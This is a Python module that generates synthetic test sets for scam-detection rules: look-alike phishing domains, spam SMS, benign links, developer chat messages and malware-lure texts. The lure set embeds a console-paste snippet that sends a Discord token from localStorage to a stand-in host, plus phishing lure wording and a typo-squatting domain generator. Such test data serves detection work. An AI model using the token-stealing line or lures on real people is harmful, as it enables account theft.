"""Generated test sets for the rule checks: scam links, benign links,
SMS-style spam and ordinary texts. Written for this project from templates
(no third-party data). Each generator takes `split`:

* "tune"  - templates the rules were written looking at;
* "held"  - other templates, other brands' spellings and other wording,
            never looked at while writing the rules.

    scam_links(split, n, seed) -> list[str]      messages carrying a scam link
    benign_links(n, seed) -> list[str]           messages with ordinary links
    sms(split, n, seed) -> list[tuple[str, int]] (text, 1 spam / 0 ordinary)
    malware_lures(split, n, seed) -> list[tuple[str, list[str]]]  (text, attached file names)
"""
from __future__ import annotations

import random

# ------------------------------------------------------------- scam links

_SWAPS = {"i": ["l", "1", "!"], "o": ["0"], "l": ["1", "i"], "e": ["3"], "a": ["4"], "s": ["5"], "m": ["rn"],
          "w": ["vv"]}


def _misspell(rng: random.Random, word: str) -> str:
    """One typo a phisher would register: a look-alike letter, a swap, a
    dropped or doubled letter."""
    kind = rng.choice(("glyph", "glyph", "swap", "drop", "double"))
    idx = [i for i, c in enumerate(word) if c in _SWAPS]
    if kind == "glyph" and idx:
        i = rng.choice(idx)
        return word[:i] + rng.choice(_SWAPS[word[i]]) + word[i + 1:]
    i = rng.randrange(1, len(word) - 1)
    if kind == "swap":
        return word[:i] + word[i + 1] + word[i] + word[i + 2:]
    if kind == "drop":
        return word[:i] + word[i + 1:]
    return word[:i] + word[i] + word[i:]


_TUNE_BRANDS = ["discord", "steamcommunity", "paypal", "microsoft", "github", "slack"]
_HELD_BRANDS = ["discordapp", "steampowered", "apple", "google", "coinbase", "metamask", "binance", "roblox",
                "instagram", "netflix", "steam", "amazon"]
_TUNE_TLDS = ["ru", "xyz", "gift", "com", "top", "click"]
_HELD_TLDS = ["su", "tk", "icu", "cyou", "ml", "online", "site", "net", "org", "info", "store", "pw", "co"]
_LURE_WORDS = ["gift", "nitro", "claim", "free", "promo", "drop", "airdrop", "giveaway", "verify", "login", "secure",
               "bonus", "reward", "account", "trade", "skins", "wallet", "connect", "unlock"]
_TUNE_PATHS = ["/claim", "/gift", "/nitro", "/login", "/verify", "/airdrop", "/new", "/promo/3m"]
_HELD_PATHS = ["/redeem?code=X7Q2", "/auth/discord", "/tradeoffer/new/?partner=4471", "/s/free", "/account/recover",
               "", "/", "/wallet/connect", "/giveaway/12", "/oauth2/authorize", "/event"]
_TUNE_MSGS = [
    "{url}", "free nitro for 3 months {url}", "hey bro, take this gift {url}", "claim your nitro here: {url}",
    "@everyone discord is giving away nitro {url}", "verify your account or it will be suspended {url}",
    "airdrop is live, connect your wallet {url}",
]
_HELD_MSGS = [
    "{url}", "yo check this out {url}", "is this you in the video? {url}", "first 100 people get it {url}",
    "steam is giving skins to everyone who links their account: {url}",
    "Your account has been flagged. Confirm your identity within 24h: {url}",
    "i accidentally reported you, please sort it out here {url}",
    "gift for you :gift: {url}", "guys the new update is out {url} enjoy",
    "Mint is live! only 500 left {url}", "can you vote for my team? {url}",
    "Support ticket #4471 opened, log in to respond: {url}",
]


def _scam_host(rng: random.Random, brands: list[str], tlds: list[str]) -> str:
    brand = rng.choice(brands)
    shape = rng.choice(("typo", "typo", "typo-lure", "lure-brand", "brand-lure", "brand.sub", "lure-only"))
    tld = rng.choice(tlds)
    lure = rng.choice(_LURE_WORDS)
    if shape == "typo":
        return f"{_misspell(rng, brand)}.{tld}"
    if shape == "typo-lure":
        return f"{_misspell(rng, brand)}-{lure}.{tld}"
    if shape == "lure-brand":
        return f"{lure}-{brand}.{tld}"
    if shape == "brand-lure":
        return f"{brand}{lure}.{tld}"
    if shape == "brand.sub":
        return f"{brand}.com-{lure}.{rng.choice(tlds)}"
    # no brand at all: lure words on a cheap TLD
    return f"{lure}-{rng.choice(_LURE_WORDS)}.{rng.choice(('ru', 'xyz', 'top', 'icu', 'click', 'gift', 'su', 'tk'))}"


def scam_links(split: str, n: int = 400, seed: int = 1) -> list[str]:
    rng = random.Random(f"scam-{split}-{seed}")
    brands, tlds, paths, msgs = ((_TUNE_BRANDS, _TUNE_TLDS, _TUNE_PATHS, _TUNE_MSGS) if split == "tune" else
                                 (_HELD_BRANDS, _HELD_TLDS, _HELD_PATHS, _HELD_MSGS))
    out = []
    for _ in range(n):
        url = _scam_host(rng, brands, tlds) + rng.choice(paths)
        form = rng.random()
        if form < 0.45:
            link = f"<https://{url}>"
        elif form < 0.6:
            link = f"<https://{url}|{url}>"
        elif form < 0.8:
            link = f"https://{url}"
        else:
            link = url  # typed without a scheme
        out.append(rng.choice(msgs).format(url=link))
    return out


# ------------------------------------------------------------ benign links

_BENIGN_URLS = [
    "https://github.com/{o}/{r}/blob/main/src/index.js", "https://github.com/{o}/{r}/blob/{h}/lib/server.js#L{n}",
    "https://github.com/{o}/{r}/issues/{n}", "https://github.com/{o}/{r}/pull/{n}/files",
    "https://github.com/{o}/{r}/releases/tag/v{v}", "https://raw.githubusercontent.com/{o}/{r}/main/install.sh",
    "https://gist.github.com/{o}/{h}", "https://gitlab.com/{o}/{r}/-/blob/main/app/main.py",
    "https://bitbucket.org/{o}/{r}/src/master/build.gradle", "https://stackoverflow.com/questions/{n}/how-to-{w}-{w}",
    "https://www.npmjs.com/package/{r}", "https://pypi.org/project/{r}/", "https://docs.python.org/3/library/{w}.html",
    "https://developer.mozilla.org/en-US/docs/Web/API/{W}", "https://docs.docker.com/engine/reference/commandline/{w}/",
    "https://appium.io/docs/en/drivers/{w}/", "https://kubernetes.io/docs/concepts/{w}/", "https://{r}.readthedocs.io/en/latest/",
    "https://medium.com/@{o}/{w}-{w}-{h}", "https://www.youtube.com/watch?v={h}", "https://youtu.be/{h}",
    "https://docs.google.com/document/d/{h}/edit", "https://drive.google.com/file/d/{h}/view",
    "https://slack.com/help/articles/{n}", "https://api.slack.com/methods/chat.postMessage",
    "https://discord.com/invite/{h}", "https://discord.gg/{h}", "https://store.steampowered.com/app/{n}/",
    "https://www.paypal.com/donate?hosted_button_id={H}", "https://learn.microsoft.com/en-us/azure/{w}/",
    "https://support.apple.com/en-us/{n}", "https://developer.apple.com/documentation/{w}",
    "https://en.wikipedia.org/wiki/{W}", "https://news.ycombinator.com/item?id={n}", "https://www.reddit.com/r/{w}/",
    "https://twitter.com/{o}/status/{n}", "https://x.com/{o}/status/{n}", "https://www.linkedin.com/in/{o}",
    "https://zoom.us/j/{n}", "https://meet.google.com/{w}-{w}-{w}", "https://bit.ly/{h}", "https://t.co/{h}",
    "https://example.com/{w}", "http://localhost:{p}/wd/hub", "http://127.0.0.1:{p}/status", "http://0.0.0.0:{p}",
    "http://192.168.1.{n3}:{p}/", "http://10.0.2.2:{p}/api", "https://jsfiddle.net/{h}/", "https://codepen.io/{o}/pen/{h}",
    "https://{o}.github.io/{r}/", "https://hub.docker.com/_/{r}", "https://registry.npmjs.org/{r}",
    "https://cdn.jsdelivr.net/npm/{r}@{v}/dist/{r}.min.js", "https://unpkg.com/{r}@{v}/umd/{r}.js",
    "https://www.apple.com/macos/", "https://www.google.com/search?q={w}+{w}", "https://aws.amazon.com/{w}/",
    "https://nodejs.org/dist/v{v}/node-v{v}-x64.msi", "https://go.dev/doc/{w}", "https://docs.rs/{r}/latest/{r}/",
    "https://crates.io/crates/{r}", "https://www.jetbrains.com/idea/download/", "https://code.visualstudio.com/docs",
    "https://www.selenium.dev/documentation/", "https://chromedriver.chromium.org/downloads",
    "https://developer.android.com/studio/command-line/{w}", "https://sourceforge.net/projects/{r}/",
    "https://blog.{r}.dev/posts/{w}-{w}", "https://{r}.netlify.app/", "https://{r}.vercel.app/docs",
    "https://www.nitropdf.com/", "https://steamcommunity.com/id/{o}", "https://help.steampowered.com/en/",
    "https://status.slack.com/", "https://githubstatus.com/", "https://www.microsoft.com/en-us/download/details.aspx?id={n}",
    "https://gift-ideas-for-devs.netlify.app/", "https://free-programming-books.github.io/",
]
_BENIGN_MSGS = [
    "{url}", "see {url}", "this fixed it for me: {url}", "docs are here {url}", "related issue {url}",
    "the relevant code is {url} around the middle", "try the example in {url}", "I followed {url} and it works now",
    "here's the PR: {url}", "check the changelog {url} before upgrading", "slides from today {url}",
    "same as {url}?", "thanks! {url} was exactly what I needed", "meeting link {url}",
]
_WORDS = ["install", "config", "session", "driver", "network", "volumes", "build", "compose", "swarm", "logging",
          "capabilities", "webview", "gestures", "selectors", "proxy", "timeouts", "release", "cache", "auth"]
_OWNERS = ["appium", "docker", "moby", "acme", "jdoe", "kubernetes", "facebook", "microsoft", "tiangolo", "psf"]
_REPOS = ["appium-android-driver", "compose", "requests", "webdriverio", "fastapi", "sdk", "cli", "engine", "buildx"]


def benign_links(n: int = 1000, seed: int = 2) -> list[str]:
    rng = random.Random(f"benign-{seed}")
    out = []
    for _ in range(n):
        url = rng.choice(_BENIGN_URLS).format(
            o=rng.choice(_OWNERS), r=rng.choice(_REPOS), w=rng.choice(_WORDS), W=rng.choice(_WORDS).title(),
            h="".join(rng.choice("0123456789abcdef") for _ in range(rng.choice((7, 11, 32)))),
            H="".join(rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZ0123456789") for _ in range(13)),
            n=rng.randrange(100, 9_999_999), n3=rng.randrange(2, 254), p=rng.choice((4723, 8080, 3000, 5555, 9515)),
            v=f"{rng.randrange(1, 22)}.{rng.randrange(0, 20)}.{rng.randrange(0, 9)}")
        form = rng.random()
        link = f"<{url}>" if form < 0.6 else (f"<{url}|{rng.choice(_WORDS)}>" if form < 0.75 else url)
        out.append(rng.choice(_BENIGN_MSGS).format(url=link))
    return out


# ------------------------------------------------------------- SMS style

def _fill(rng: random.Random, template: str) -> str:
    return template.format(
        num=rng.choice(("08712460324", "09061743811", "0906 170 1461", "87121", "85233", "83355", "62468",
                        "1-900-555-0147", "+44 7700 900461", "0871 872 9758", "09050003091", "69696", "80082")),
        code=rng.choice(("X49", "WIN22", "GRT5", "S89", "PRIZE", "BONUS", "K52", "TXT4")),
        amount=rng.choice(("£1000", "£2,000", "$500", "$1,500", "£250", "€900", "£5000", "$2000", "£100")),
        prize=rng.choice(("a Nokia", "an iPhone 15", "a £500 Tesco voucher", "a holiday for 2",
                          "a $1000 Walmart gift card", "free ringtones", "a Samsung Galaxy", "2 concert tickets")),
        price=rng.choice(("150p", "£1.50", "$2.99", "£3/wk", "25p/min", "£1/msg", "10p/min", "$9.99/mo")),
        word=rng.choice(("WIN", "YES", "PRIZE", "GO", "CLAIM", "LOVE", "CHAT", "PLAY")),
        coin=rng.choice(("BTC", "ETH", "USDT", "crypto", "bitcoin", "SOL")),
        pct=rng.choice(("300%", "20% weekly", "5% a day", "10x", "500%")),
        name=rng.choice(("Sam", "Jo", "Alex", "Mia", "Chris", "Priya", "Tom", "Lena")),
        place=rng.choice(("the pub", "Dan's", "the station", "work", "the gym", "town", "uni")),
        time=rng.choice(("7", "half 6", "8pm", "noon", "after work", "tmrw", "10 mins")),
    )


_SPAM_TUNE = [
    "Congratulations! You have won {prize}. Call {num} now to claim. {price}",
    "URGENT! You have WON a guaranteed {amount} cash prize. To claim call {num}. Claim code {code}. Valid 12hrs",
    "FREE entry into our weekly competition to win {prize}. Text {word} to {num}. T&Cs apply {price}",
    "You are a WINNER! As a valued customer you've been selected to receive {amount}. Call {num}",
    "Your mobile number has won {amount} in our draw! To claim text {word} to {num}. Txt STOP to opt out",
    "Double your {coin} in 24 hours! Guaranteed returns of {pct}. DM now, limited spots",
    "Earn {amount} a week from home, no experience needed. Reply YES to {num}",
    "Hot singles in your area want to chat! Text {word} to {num} {price}. Stop? txt STOP",
    "Our records show you qualify for a {amount} prize payout. To claim call {num}, your claim code is {code}. "
    "Valid 24 hours.",
    "Upgrade your phone for FREE today! Call our upgrade team free on 0800 123 4567",
    "You have won 1 month of free gym membership plus a {amount} prize jackpot! Text the word: {word} to: {num}",
    "Someone fancies you! To find out who, text {word} to {num}. Costs {price}/day, Ts and Cs apply",
    # added with the call-back, per-message price and handset-offer signs (stop 21)
    "You have 1 new voicemail. Please call {num} to listen",
    "Get the latest polyphonic ringtones free! Reply {word} to {num}. Msg charged at £1.50",
    "Had ur phone 11 months or more? U r due a FREE upgrade to a camera phone. Call {num}",
]
_SPAM_HELD = [
    "Ur awarded {prize}! Call {num} from landline. Claim {code}. {price} 18+",
    "Private! Your 2024 account statement shows {amount} in unclaimed bonus. Call {num} identifier code {code}",
    "Final attempt to contact you! You have a {amount} prize waiting. Ring {num} before midnight",
    "Thanks for your subscription to Ringtone Club, charged {price}. To unsubscribe reply STOP",
    "IMPORTANT: you've been chosen for {prize}. Reply {word} to {num} to accept. {price} msg",
    "Invest {amount} today and get {pct} profit with our {coin} trading bot. Join now, spots limited!",
    "Get a loan of {amount} today, bad credit OK! Text {word} to {num}",
    "Dear customer, your parcel is held. Pay the {amount} fee to release it. Reply {word}",
    "SIX chances to win CASH! From 100 to {amount} txt> {code} to {num} {price} 16+",
    "Want {prize}? You're our lucky winner this week, just call {num} quoting {code}",
]
_HAM_TUNE = [
    "ok see you at {place} at {time}", "{name} said she'll call you later", "running 10 mins late, sorry!",
    "did you get the tickets?", "haha yes that was so funny", "can you pick up milk on the way home",
    "thanks for yesterday, had a great time", "I won the quiz at {place} last night lol",
    "call me when you're free, nothing urgent", "what time is the train tomorrow",
    "text me when you get home", "happy birthday!! have a great day",
    "Sorry, I'll call later", "ok lor... text me when you're free", "Free tonight? call me", "urgent, call me back",
    "I owe you £200 for the tickets, will send it tmrw", "did you win anything at the casino lol",
    "reply when you can, no rush", "I'm free from 7, call me then",
]
_HAM_HELD = [
    "just finished work, heading to {place}", "{name} won't make it tonight, she's ill", "ring me after {time}?",
    "where did you park", "lol no way", "can't talk now, call you back in a bit", "we're at {place}, come over",
    "did you win the match?", "send me the photos from the weekend", "ok I'll text {name} and ask",
    "good luck with the interview tomorrow!", "I'll be there at {time}, save me a seat", "stop it you're making me laugh",
    "please call mum, she's been trying to reach you", "free tomorrow afternoon if you want to grab lunch",
    "claim your bag at the carousel, I'll wait outside", "congrats on the new job!! so happy for you",
]


def sms(split: str, n: int = 600, seed: int = 3, spam_share: float = 0.3) -> list[tuple[str, int]]:
    rng = random.Random(f"sms-{split}-{seed}")
    spam_t, ham_t = (_SPAM_TUNE, _HAM_TUNE) if split == "tune" else (_SPAM_HELD, _HAM_HELD)
    out = []
    for _ in range(n):
        if rng.random() < spam_share:
            text = _fill(rng, rng.choice(spam_t))
            if rng.random() < 0.3:
                text = text.upper() if rng.random() < 0.5 else text.lower()
            out.append((text, 1))
        else:
            out.append((_fill(rng, rng.choice(ham_t)), 0))
    return out


# ---------------------------------------------------------- malware lures

_LURE_TUNE = [
    ("hey can you test my game? <https://www.mediafire.com/file/{h}/{Game}.zip|{Game}.zip>", []),
    ("try my new launcher, password for the zip is 1234 <https://mega.nz/file/{h}>", []),
    ("here is the invoice", ["invoice_{n}.pdf.exe"]),
    ("please enable macros to view the document", ["Payment_{n}.docm"]),
    ("paste this code into your console to get the hypesquad badge: {js}", []),
    ("download this fix {url}/patch_{n}.exe", []),
    ("free cracked photoshop download here {url}/ps.zip", []),
]
_LURE_HELD = [
    ("Could you play my beta game and tell me what you think? {url}/{Game}_Setup.rar", []),
    ("yo check out my game bro, the file's password: {n}", ["{Game}.rar"]),
    ("Scan of the contract attached", ["Contract_{n}.pdf.scr"]),
    ("To see the content click Enable Content at the top", ["Report_{n}.xls"]),
    ("open dev tools (ctrl+shift+i), go to console and paste this to unlock free nitro: {js}", []),
    ("photos from the party {url}/IMG_{n}.jpg.exe", []),
    ("run our new tool to boost your fps <https://gofile.io/d/{h}>", []),
    ("important update for your account, install it: {url}/update.msi", []),
]
_LURE_BENIGN = [
    "can you test my PR? https://github.com/acme/app/pull/{n}", "try my app on TestFlight, link in the channel topic",
    "enable the feature flag in the settings", "the archive password policy is in the wiki",
    "open the browser console and paste the error here", "check my fork https://github.com/jdoe/app",
    "I attached the logs", "the release is at https://github.com/acme/app/releases/tag/v{n}",
    "download the docs PDF from https://docs.acme.io/guide.pdf", "run the tests with make test",
]


def malware_lures(split: str, n: int = 200, seed: int = 4) -> list[tuple[str, list[str], int]]:
    """(text, attached file names, 1 lure / 0 ordinary)."""
    rng = random.Random(f"lure-{split}-{seed}")
    templates = _LURE_TUNE if split == "tune" else _LURE_HELD
    out = []
    for _ in range(n):
        fill = dict(h="".join(rng.choice("abcdefghijkmnpqrstuvwxyz0123456789") for _ in range(10)),
                    n=rng.randrange(1000, 99999), Game=rng.choice(("Fortnite_Pro", "MyGame", "SpaceRun", "Untitled")),
                    url=rng.choice(("https://cdn-files.xyz/d", "https://dl.filesend.ru", "https://www.dropbox.com/s/a1b2",
                                    "http://updates-server.top/get")),
                    js="`" + rng.choice(("let t=(webpackChunkdiscord_app.push(...))", "fetch('//x.top/?t='+localStorage.token)")) + "`")
        if rng.random() < 0.5:
            text, files = rng.choice(templates)
            out.append((text.format(**fill), [f.format(**fill) for f in files], 1))
        else:
            out.append((rng.choice(_LURE_BENIGN).format(**fill), [], 0))
    return out


# ------------------------------------------- Slack messages carrying code

_CODE_MSGS = [
    "try `adb connect {ip}:5555` and then `adb devices`",
    "my compose file:\n```\nservices:\n  db:\n    image: postgres:{v}\n    ports:\n      - \"5432:5432\"\n"
    "    environment:\n      POSTGRES_PASSWORD: example\n  web:\n    extra_hosts:\n      - \"api.local:{ip}\"\n```",
    "```\n$ curl -v http://{ip}:8080/health\n* Connected to {ip} port 8080\n< HTTP/1.1 200 OK\n```\nworks from the host",
    "the test fixture uses `{{\"phone\": \"{phone}\", \"email\": \"{email}\"}}` so don't worry, it's fake",
    "upgraded to `{v}` and now `npm ci` fails with `ERR! code E404`",
    "stack trace:\n```at com.acme.Api.call(Api.java:{n})\nat sun.reflect.NativeMethodAccessorImpl.invoke0(Native Method)\n"
    "Caused by: java.net.ConnectException: Connection refused ({ip}:{port})```",
    "bisected it to {h}, the commit before ({h2}) is fine",
    "`SELECT * FROM users WHERE phone = '{phone}'` returns nothing on staging",
    "set `DATABASE_URL=postgres://app:{h}@{ip}:5432/app` in the `.env`",
    "log says `{ts} INFO  [main] started in 4.{n}s (pid {n})`",
    "```\nPING {ip} ({ip}): 56 data bytes\n64 bytes from {ip}: icmp_seq=0 ttl=64 time={n}.1 ms\n```",
    "the release notes for {v} say the regression from {v2} is fixed",
    "`git log --oneline` shows {h} Merge pull request #{n} from acme/fix-{n}",
    "copy the example from the docs: `client = Client(token=\"xoxb-...\", base_url=\"http://{ip}:3000\")`",
    "driver = new AndroidDriver(new URL(\"http://{ip}:4723/wd/hub\"), caps); caps.setCapability(\"udid\", \"{udid}\");",
]


def code_messages(n: int = 800, seed: int = 5) -> list[str]:
    """Ordinary developer messages with code in Slack markup (and some pasted
    without it) carrying IPs, phone-shaped numbers, versions, hashes and
    timestamps: none of them is anybody's personal data."""
    rng = random.Random(f"code-{seed}")
    out = []
    for _ in range(n):
        hexs = lambda k: "".join(rng.choice("0123456789abcdef") for _ in range(k))  # noqa: E731
        out.append(rng.choice(_CODE_MSGS).format(
            ip=rng.choice(("10.0.2.2", "192.168.1.{}".format(rng.randrange(2, 250)), "172.17.0.{}".format(rng.randrange(2, 20)),
                           "127.0.0.1", "203.0.113.{}".format(rng.randrange(1, 250)), "198.51.100.7", "0.0.0.0")),
            phone=rng.choice(("+1 555 0100", "555-0100", "+44 20 7946 0000", "0123456789")),
            email=rng.choice(("test@example.com", "user@example.org", "qa@example.net")),
            v=f"{rng.randrange(1, 20)}.{rng.randrange(0, 30)}.{rng.randrange(0, 12)}",
            v2=f"{rng.randrange(1, 20)}.{rng.randrange(0, 30)}.{rng.randrange(0, 12)}.{rng.randrange(0, 999)}",
            n=rng.randrange(10, 99999), h=hexs(rng.choice((7, 12, 40))), h2=hexs(7), port=rng.choice((5432, 6379, 8080)),
            ts=f"2024-0{rng.randrange(1, 9)}-1{rng.randrange(0, 9)}T1{rng.randrange(0, 9)}:2{rng.randrange(0, 9)}:0{rng.randrange(0, 9)}.{rng.randrange(100, 999)}Z",
            udid=f"{hexs(8)}-{hexs(4)}-{hexs(4)}-{hexs(4)}-{hexs(12)}".upper()))
    return out
